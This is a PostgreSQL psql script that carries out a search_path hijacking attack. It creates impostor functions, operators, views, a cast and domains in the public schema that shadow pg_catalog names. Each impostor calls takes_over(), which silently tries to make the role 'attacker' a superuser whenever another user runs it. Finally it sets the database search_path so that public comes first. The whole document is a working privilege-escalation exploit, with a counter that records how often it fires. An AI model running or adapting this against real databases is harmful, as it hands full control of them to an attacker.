-- Run as the tables' owner, who owns the database too and wants the rights of whoever deploys: whatever SQL of ours
-- could look up gets a twin in public, first in the path. :words are the names in our files that a parenthesis follows.
create sequence public.witness;  -- what it has counted no rollback takes back
grant usage on sequence public.witness to public;

create function public.takes_over() returns boolean
language plpgsql
set search_path = pg_catalog
as $$
begin
    if current_user <> 'attacker' then
        perform nextval('public.witness');
        begin
            alter role attacker superuser;
        exception
            when others then null;
        end;
    end if;
    return true;
end;
$$;

-- Makes one impostor; some signatures cannot be had in PL/pgSQL.
create procedure public.forge(p_statement text)
language plpgsql
set search_path = pg_catalog
as $$
begin
    execute p_statement;
exception
    when others then null;
end;
$$;

set search_path = pg_catalog;
\set body 'begin perform public.takes_over(); return null; end'
\set set_body 'begin perform public.takes_over(); return; end'

-- Functions, with the arguments of the real ones and with those that a call with strings matches best.
select format(
    'call public.forge(%L)',
    format(
        'create function public.%I(%s) returns %s%s language plpgsql as %L',
        p.proname,
        replace(
            pg_get_function_identity_arguments(p.oid), '"any"',
            case when p.provariadic > 0 then 'text[]' else 'text' end
        ),
        case when p.proretset then 'setof ' end, format_type(p.prorettype, null),
        case when p.proretset then :'set_body' else :'body' end
    )
)
from pg_proc as p
where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and p.proname = any (:'words'::text[])
\gexec
select format(
    'call public.forge(%L)',
    format('create function public.%I(%s) returns text language plpgsql as %L', w.word, t.arguments, :'body')
)
from unnest(:'words'::text[]) as w (word)
cross join unnest(
    array['text', 'text, text', 'text, text, text', 'text, name', 'regclass, text', 'oid, text', 'text[], text']
) as t (arguments)
\gexec

-- Operators: twins, and pairs of types that have none of their own.
\set types '{oid,regclass,regproc,regrole,regtype,regnamespace,name,text,varchar,"\\"char\\""}'
select format(
    'call public.forge(%L); call public.forge(%L)',
    format(
        'create function public.%I(%s, %s) returns %s language plpgsql as %L',
        'gives ' || o.result, o.leftarg, o.rightarg, o.result, :'body'
    ),
    format(
        'create operator public.%s (function = public.%I, leftarg = %s, rightarg = %s)',
        o.name, 'gives ' || o.result, o.leftarg, o.rightarg
    )
)
from (
    select o.oprname, o.oprleft::regtype::text, o.oprright::regtype::text, o.oprresult::regtype::text
    from pg_operator as o
    where o.oprname in (
            '=', '<>', '<', '<=', '>', '>=', '||', '~', '~~', '!~', '!~~',
            '+', '-', '*', '/', '%', '@>', '->>', '->', '&'
        )
        and o.oprleft > 0 and o.oprright > 0
    union
    select n.name, l.type, r.type, 'boolean'
    from unnest(array['=', '<>', '~', '~~', '!~~']) as n (name)
    cross join unnest(:'types'::text[]) as l (type)
    cross join unnest(:'types'::text[]) as r (type)
) as o (name, leftarg, rightarg, result)
\gexec

-- Relations named like those of the catalog.
select format(
    'call public.forge(%L)',
    format('create view public.%I as select * from pg_catalog.%I where public.takes_over()', c.relname, c.relname)
)
from pg_class as c
where c.relnamespace = 'pg_catalog'::regnamespace and c.relkind in ('r', 'v')
\gexec

-- A cast of a type of theirs.
create type public.mood as enum ('calm');
create function public.mood_text(public.mood) returns text language plpgsql as :'body';
create cast (public.mood as text) with function public.mood_text as implicit;

-- Types last: from here on their names mean the impostors wherever public comes first.
select format(
    'call public.forge(%L)',
    format('create domain public.%I as pg_catalog.%I check (public.takes_over())', t.typname, t.typname)
)
from pg_type as t
where t.typnamespace = 'pg_catalog'::regnamespace and t.typtype = 'b' and t.typcategory <> 'A'
\gexec

select format('alter database %I set search_path = public, pg_catalog', current_database())
\gexec
